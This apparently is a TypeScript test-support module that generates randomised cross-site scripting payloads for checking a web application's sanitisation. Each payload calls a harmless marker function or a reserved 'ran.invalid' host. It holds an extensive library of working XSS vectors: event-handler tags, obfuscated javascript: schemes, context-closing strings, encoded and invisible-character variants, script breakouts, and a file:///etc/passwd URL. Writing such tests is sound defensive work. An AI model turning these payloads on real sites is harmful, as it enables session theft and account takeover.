import { pickOne, type Random } from '#server/platform/random.ts'

/**
 * If an attack succeeds, it calls the page's function `__ran` with its number, or requests the path `/number` from this
 * host.
 */
export const RAN_HOST = 'ran.invalid'

/** Writes one kind of attack text. `n` is the number of the text. */
export type Template = (n: number, random: Random) => string

const CALLS: Template[] = [
  (n) => `__ran(${n})`,
  (n) => `__ran\`${n}\``,
  (n) => `top.__ran(${n})`,
  (n) => `self['__ran'](${n})`,
  (n) => `[${n}].map(__ran)`,
  (n) => `\\u005f_ran(${n})`,
  (n) => `&#95;_ran(${n})`,
  (n) => `&#x5f;_ran&lpar;${n}&rpar;`,
]

const call: Template = (n, random) => pickOne(CALLS, random)(n, random)

/** Elements with the attribute `ran`, by which a test detects that the page created them. */
const ELEMENTS: Template[] = [
  (n) => `<script ran>__ran(${n})</script>`,
  (n) => `<script ran src=//${RAN_HOST}/${n}></script>`,
  (n, random) => `<img ran src=x onerror=${call(n, random)}>`,
  (n) => `<img ran src=//${RAN_HOST}/${n}>`,
  (n, random) => `<svg ran onload=${call(n, random)}>`,
  (n) => `<svg ran><script>__ran(${n})</script>`,
  (n) => `<svg ran><animate onbegin=__ran(${n}) attributeName=x dur=1s>`,
  (n) => `<svg ran><a xlink:href=javascript:__ran(${n})><text y=9>x</text></a>`,
  (n) => `<math ran><mtext href=javascript:__ran(${n})>x`,
  (n) => `<math><mi><style><img ran src onerror=__ran(${n})></style>`,
  (n) => `<iframe ran src=javascript:__ran(${n})></iframe>`,
  (n) => `<iframe ran srcdoc='&lt;script>top.__ran(${n})&lt;/script>'></iframe>`,
  (n) => `<object ran data=//${RAN_HOST}/${n}></object>`,
  (n) => `<embed ran src=javascript:__ran(${n})>`,
  (n, random) => `<details ran open ontoggle=${call(n, random)}>`,
  (n, random) => `<input ran autofocus onfocus=${call(n, random)}>`,
  (n) => `<video ran><source onerror=__ran(${n})></video>`,
  (n) => `<audio ran src=x onerror=__ran(${n})>`,
  (n, random) => `<body ran onload=${call(n, random)}>`,
  (n) => `<base ran href=//${RAN_HOST}/${n}/>`,
  (n) => `<link ran rel=stylesheet href=//${RAN_HOST}/${n}>`,
  (n) => `<meta ran http-equiv=refresh content='0;url=//${RAN_HOST}/${n}'>`,
  (n) => `<style ran>@import'//${RAN_HOST}/${n}'</style>`,
  (n) => `<form ran action=//${RAN_HOST}/${n}><button>go</button></form>`,
  (n) => `<a ran href=javascript:__ran(${n})>x</a>`,
  (n) => `<p ran style=background:url(//${RAN_HOST}/${n})>x`,
  (n) => `<template ran shadowrootmode=open><img src onerror=__ran(${n})>`,
  (n) => `<x-y ran tabindex=0 autofocus onfocus=__ran(${n})>x`,
]

/** Texts that end the context in which a page may show an attack text. */
const ENDS = [
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '</td></tr></table>',
  '</div></main></body>',
  '-->',
  '--!>',
  '<!-->',
  ']]>',
  '?>',
  '%>',
]

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  'javascript&#58;',
  '&#106;avascript:',
  '%6aavascript:',
  'vbscript:',
  'livescript:',
  'view-source:javascript:',
  'javascript://%0a',
  'javascript:/*--></title></style></textarea>*/',
]

const FOREIGN_URLS: Template[] = [
  (n) => `//${RAN_HOST}/${n}`,
  (n) => `/\\${RAN_HOST}/${n}`,
  (n) => `\\\\${RAN_HOST}\\${n}`,
  (n) => `https://${RAN_HOST}/${n}`,
  (n) => `https:${RAN_HOST}/${n}`,
  (n) => `/\t/${RAN_HOST}/${n}`,
  (n) => `https://podium@${RAN_HOST}/${n}`,
  (n) => `data:text/html,<script ran>top.__ran(${n})</script>`,
  (n) => `data:image/svg+xml,<svg onload=__ran(${n})>`,
  (n) => `blob:https://${RAN_HOST}/${n}`,
  (n) => `file:///etc/passwd?${n}`,
]

const HANDLERS = 'onmouseover onfocus onload onerror onanimationstart onpointerenter ontoggle'.split(' ')

/** Varies case and what separates attributes, doubles `<`, and replaces `>`. */
const DISGUISES: ((markup: string, random: Random) => string)[] = [
  (markup) => markup,
  (markup, random) =>
    markup.replace(/^<(\/?)(\w+)/, (_, slash: string, name: string) => `<${slash}${mixedCase(name, random)}`),
  (markup) => markup.replace(' ran', '/ran/'),
  (markup) => markup.replace(' ran', '\nran\t'),
  (markup) => markup.replace(' ran', '\fran\r'),
  (markup) => `<${markup}`,
  (markup) => markup.replace(/>$/, '//'),
  (markup) => markup.replace(/>$/, ' x="'),
]

function mixedCase(text: string, random: Random): string {
  return text.replaceAll(/\w/g, (letter) => (random() < 0.5 ? letter.toUpperCase() : letter))
}

export const element: Template = (n, random) =>
  pickOne(DISGUISES, random)(pickOne(ELEMENTS, random)(n, random), random)

export const ended: Template = (n, random) => pickOne(ENDS, random) + element(n, random)

/** Closes an attribute and adds another one, or closes the element. */
export const attribute: Template = (n, random) => {
  const quote = pickOne(['"', "'", '`', ' ', '&quot;', '\\"', '"\t', "'/"], random)
  if (random() < 0.4) return `x${quote}>${element(n, random)}`
  const more = pickOne(['', ' autofocus tabindex=0', ' style=animation:x', ' href=javascript:0'], random)
  return `x${quote} ran ${pickOne(HANDLERS, random)}=${call(n, random)}${more} y=${quote}`
}

export const url: Template = (n, random) =>
  random() < 0.6 ? pickOne(SCHEMES, random) + call(n, random) : pickOne(FOREIGN_URLS, random)(n, random)

/** Markup that takes effect only if the page decodes it once more. */
export const encoded: Template = (n, random) => {
  const markup = pickOne(ELEMENTS, random)(n, random)
  const encodeWith = (write: (letter: string) => string) => markup.replaceAll(/[<>"'=&]/g, write)
  const code = (letter: string) => letter.charCodeAt(0)
  return pickOne(
    [
      encodeWith((letter) => `&#${code(letter)};`),
      encodeWith((letter) => `&#x${code(letter).toString(16)}`),
      encodeWith((letter) => `%${code(letter).toString(16)}`),
      encodeWith((letter) => `\\u00${code(letter).toString(16)}`),
      encodeWith((letter) => `\\x${code(letter).toString(16)}`),
      encodeWith((letter) => String.fromCodePoint(code(letter) + 0xfee0)),
      markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
      markup.replaceAll('<', '&amp;lt;'),
      markup.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
      markup.replaceAll('<', '\\<'),
    ],
    random,
  )
}

/** Markup mixed with zero-width, bidirectional or combining characters. */
export const invisible: Template = (n, random) => {
  const sign = pickOne(
    '\u202e \u2066 \u200b \u200d \ufeff \u00ad \u0301 \u2028 \u2029 \u0085 \u{e0041} \uffff \u034f'.split(
      ' ',
    ),
    random,
  )
  const markup = element(n, random)
  return pickOne(
    [sign + markup, markup.replace('<', `<${sign}`), `${markup}${sign}`, `${sign}x${n}${sign}`],
    random,
  )
}

/** Closes the embedded data of a page, or starts a script within it. */
export const inScript: Template = (n, random) =>
  pickOne(
    [
      `</script><script ran>__ran(${n})</script>`,
      `</ScRiPt\t><img ran src onerror=__ran(${n})>`,
      `<!--<script>${call(n, random)}`,
      `"};__ran(${n});//`,
      `\\"});__ran(${n})//`,
      `'-__ran(${n})-'`,
      `\u2028__ran(${n})\u2029`,
      `]]><script ran>__ran(${n})</script>`,
      `*/__ran(${n})/*`,
      `\\u003c/script\\u003e\\u003cscript ran>__ran(${n})</script>`,
    ],
    random,
  )
